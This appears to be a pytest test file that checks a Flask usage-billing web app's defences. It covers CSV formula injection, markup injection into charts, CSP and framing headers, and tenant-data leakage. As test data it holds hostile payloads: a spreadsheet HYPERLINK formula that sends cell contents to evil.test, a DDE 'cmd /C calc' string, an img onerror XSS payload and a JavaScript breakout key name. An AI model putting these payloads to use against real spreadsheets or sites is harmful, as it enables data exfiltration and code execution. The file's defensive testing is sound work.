"""Attacks on the web side (issue 10, points 9 and 10): formula injection through CSV exports, markup in chart
labels and key names, framing and sniffing, and what a tenant can learn of the operator's pricing and of
LiteLLM's token hashes. Each test plays the attack against the app and shows it fails."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from cryptography.fernet import Fernet
from markupsafe import escape

from tests.conftest import bearer, login
from webapp.dashboard.charts import plain_label
from webapp.extensions import db
from webapp.models import ApiKey, UsageSource
from webapp.usage.recording import UsageRecord, record_usage

TODAY = datetime.now(UTC).date()
RANGE = f"from={(TODAY - timedelta(days=29)).isoformat()}&to={TODAY.isoformat()}"
HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
LINK_LABEL = '<a href="https://evil.test/phish">Open invoice</a>'


def _usage(app, tenant_id: int | None, key_id: int | None, **fields: Any) -> None:
    values: dict[str, Any] = {
        "request_id": f"req-{fields.get('model', 'm')}-{key_id}",
        "source": UsageSource.PROXY,
        "occurred_at": datetime.now(UTC) - timedelta(minutes=5),
        "litellm_key_id": "tok-hostile",
        "tenant_id": tenant_id,
        "api_key_id": key_id,
        "model": "gpt-4o-mini",
        "endpoint": "/v1/chat/completions",
        "total_tokens": 10,
        "cost": Decimal("0.01"),
    } | fields
    with app.app_context():
        record_usage([UsageRecord(**values)])
        db.session.commit()


def _key(app, tenant_id: int, name: str) -> int:
    with app.app_context():
        key = ApiKey(tenant_id=tenant_id, name=name, prefix="a1sk-hostile", litellm_key_id=f"tok-{uuid.uuid4().hex}")
        db.session.add(key)
        db.session.commit()
        return key.id


def _csv(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def _figures(page_html: str) -> list[dict[str, Any]]:
    return [json.loads(html.unescape(raw)) for raw in re.findall(r'data-plotly-figure="([^"]*)"', page_html)]


def _labels(page_html: str) -> list[str]:
    return [label for figure in _figures(page_html) for trace in figure["data"] for label in trace.get("y", [])
            if isinstance(label, str)]


# ---------------------------------------------------------------- CSV formula injection


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(app, client, world):
    key_id = _key(app, world.tenant_a.id, HYPERLINK)
    _usage(app, world.tenant_a.id, key_id, request_id="-2+3+cmd|' /C calc'!A0", model=DDE, endpoint="@SUM(1+1)")
    tab_key_id, return_key_id = _key(app, world.tenant_a.id, "\t=1+1"), _key(app, world.tenant_a.id, "\r=2+2")
    _usage(app, world.tenant_a.id, tab_key_id, request_id="req-tab", model="-1+1")
    _usage(app, world.tenant_a.id, return_key_id, request_id="req-cr")
    login(client, world.admin_a)

    rows = [
        row
        for hostile_key in (key_id, tab_key_id, return_key_id)
        for row in _csv(client.get(f"/usage/export.csv?period=30d&api_key_id={hostile_key}").get_data(as_text=True))
    ]

    assert len(rows) == 3
    by_id = {row["request_id"]: row for row in rows}
    hostile = by_id["'-2+3+cmd|' /C calc'!A0"]
    assert hostile["api_key_name"] == "'" + HYPERLINK
    assert hostile["model"] == "'" + DDE
    assert hostile["endpoint"] == "'@SUM(1+1)"
    tab = by_id["req-tab"]
    assert (tab["api_key_name"], tab["model"]) == ("'\t=1+1", "'-1+1")
    assert by_id["req-cr"]["api_key_name"] == "'\r=2+2"
    assert hostile["total_tokens"] == "10" and hostile["status_code"] == "200"  # numbers stay numbers


def test_staff_csv_is_neutralised_too_and_plain_cells_are_untouched(app, client, world):
    key_id = _key(app, world.tenant_b.id, "@evil")
    _usage(app, world.tenant_b.id, key_id, model="=1+1")
    login(client, world.staff)
    rows = _csv(client.get(f"/staff/usage/export.csv?period=30d&tenant_id={world.tenant_b.id}").get_data(as_text=True))
    hostile = [row for row in rows if row["api_key_id"] == str(key_id)]
    assert [(row["api_key_name"], row["model"]) for row in hostile] == [("'@evil", "'=1+1")]
    assert {row["endpoint"] for row in rows} == {"/v1/chat/completions"}
    assert all(not row["model"].startswith("'") for row in rows if row["api_key_id"] != str(key_id))


# ---------------------------------------------------------------- chart labels


def test_plain_label_turns_plotly_markup_into_text():
    assert plain_label(LINK_LABEL) == '&lt;a href="https://evil.test/phish"&gt;Open invoice&lt;/a&gt;'
    assert plain_label("R&D <b>") == "R&amp;D &lt;b&gt;"


def test_key_and_model_names_reach_tenant_charts_as_text(app, client, world):
    key_id = _key(app, world.tenant_a.id, LINK_LABEL)
    _usage(app, world.tenant_a.id, key_id, model='<img src=x onerror="alert(1)">', cost=Decimal("50"))
    login(client, world.admin_a)
    page = client.get("/dashboard?period=7d").get_data(as_text=True)
    labels = _labels(page)
    assert plain_label(LINK_LABEL) in labels
    assert plain_label('<img src=x onerror="alert(1)">') in labels
    assert not [label for label in labels if "<" in label or ">" in label]


def test_tenant_names_reach_staff_charts_as_text(app, client, world):
    with app.app_context():
        from webapp.models import Tenant

        tenant = db.session.get(Tenant, world.tenant_b.id)
        tenant.name = '<a href="https://evil.test">Bravo</a>'
        db.session.commit()
    login(client, world.staff)
    labels = _labels(client.get("/staff?period=30d").get_data(as_text=True))
    assert plain_label('<a href="https://evil.test">Bravo</a>') in labels
    assert not [label for label in labels if "<" in label]


# ---------------------------------------------------------------- scripts, framing, sniffing


PAGES_TENANT = ["/dashboard", "/usage?period=30d", "/keys"]
PAGES_STAFF = ["/staff", "/staff/usage", "/staff/keys", "/staff/tenants", "/staff/plans"]
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
INLINE_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)


def _assert_page_headers(response) -> None:
    policy = response.headers["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["script-src"] == "'self'"  # no 'unsafe-inline', no 'unsafe-eval', no hosts
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"


def test_pages_have_no_inline_script_and_send_the_policy(app, client, world):
    _key(app, world.tenant_a.id, "x');window.pwned=1;('")
    anonymous = client.get("/login")
    _assert_page_headers(anonymous)
    for user, pages in ((world.admin_a, PAGES_TENANT), (world.staff, PAGES_STAFF)):
        login(client, user)
        for url in pages:
            response = client.get(url)
            assert response.status_code == 200, url
            body = response.get_data(as_text=True)
            _assert_page_headers(response)
            assert not INLINE_SCRIPT.search(body), url
            assert not INLINE_HANDLER.search(body), url
        client.post("/logout")


def test_key_name_cannot_break_out_of_the_revoke_confirmation(app, client, world):
    """The old `onsubmit="return confirm('Revoke {{ name }}')"` ran a name like this one as code."""
    name = "x');window.pwned=1;('"
    _key(app, world.tenant_a.id, name)
    login(client, world.staff)
    body = client.get("/staff/keys").get_data(as_text=True)
    assert "onsubmit" not in body
    assert f'data-confirm="Revoke {escape(name)} of Acme?' in body


def test_error_pages_and_non_html_answers_are_locked_down(client, world, make_token):
    missing = client.get("/no-such-page")
    assert missing.status_code == 404
    _assert_page_headers(missing)
    api = client.get(f"/api/usage?{RANGE}", headers=bearer(make_token(world.admin_a)))
    assert api.status_code == 200
    assert api.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert api.headers["X-Content-Type-Options"] == "nosniff"
    login(client, world.admin_a)
    export = client.get("/usage/export.csv")
    assert export.headers["X-Content-Type-Options"] == "nosniff"
    assert export.headers["Content-Security-Policy"].startswith("default-src 'none'")


def test_hsts_only_in_production(app_with, client):
    assert "Strict-Transport-Security" not in client.get("/login").headers
    production = app_with(
        ENV_NAME="production",
        SECRET_KEY="a-real-secret-key-for-the-production-check-0001",
        ENCRYPTION_KEY=Fernet.generate_key().decode(),
        LITELLM_MASTER_KEY="sk-a-real-master-key-0001",
    )
    response = production.test_client().get("/login")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"


# ---------------------------------------------------------------- what tenants must not learn


def _keys_anywhere(value: Any) -> set[str]:
    if isinstance(value, dict):
        return set(value) | {key for item in value.values() for key in _keys_anywhere(item)}
    if isinstance(value, list):
        return {key for item in value for key in _keys_anywhere(item)}
    return set()


def test_tenant_never_sees_markup_but_staff_does(app, client, make_plan, make_tenant, make_user, make_token):
    plan = make_plan(markup_percent=Decimal("37.5"))
    tenant = make_tenant(plan=plan)
    admin = make_user("admin", tenant)
    token = make_token(admin)
    for url in ("/api/tenant", "/api/me"):
        response = client.get(url, headers=bearer(token))
        assert response.status_code == 200, url
        assert "markup_percent" not in _keys_anywhere(response.get_json()), url
        assert "37.5" not in response.get_data(as_text=True), url
    assert client.get("/api/tenant", headers=bearer(token)).get_json()["plan"]["name"] == plan.name
    login(client, admin)
    for url in ("/dashboard", "/usage", "/keys"):
        assert "markup" not in client.get(url).get_data(as_text=True).lower(), url

    staff = client.get(f"/api/admin/tenants/{tenant.id}", headers=bearer(make_token(make_user("staff"))))
    assert "markup_percent" in _keys_anywhere(staff.get_json())


def test_tenant_cannot_group_usage_by_litellm_token(client, world, make_token, staff_token):
    response = client.get(f"/api/usage?{RANGE}&group_by=litellm_key_id", headers=bearer(make_token(world.admin_a)))
    assert response.status_code == 422
    assert "group_by" in response.get_json()["error"]["fields"]
    assert "tok-" not in response.get_data(as_text=True)

    staff = client.get(f"/api/admin/usage?{RANGE}&group_by=litellm_key_id", headers=bearer(staff_token))
    assert staff.status_code == 200
    assert "tok-a1" in {row["litellm_key_id"] for row in staff.get_json()["data"]}


@pytest.mark.parametrize("url", ["/usage?period=30d", "/usage/export.csv?period=30d"])
def test_tenant_explorer_and_csv_carry_no_litellm_token(client, world, url):
    login(client, world.admin_a)
    body = client.get(url).get_data(as_text=True)
    assert "tok-a1" not in body and "tok-a2" not in body and "litellm_key_id" not in body


def test_staff_csv_still_carries_the_litellm_token(client, world):
    login(client, world.staff)
    rows = _csv(client.get("/staff/usage/export.csv?period=30d").get_data(as_text=True))
    assert {"tok-a1", "tok-b1", "tok-unmapped"} <= {row["litellm_key_id"] for row in rows}
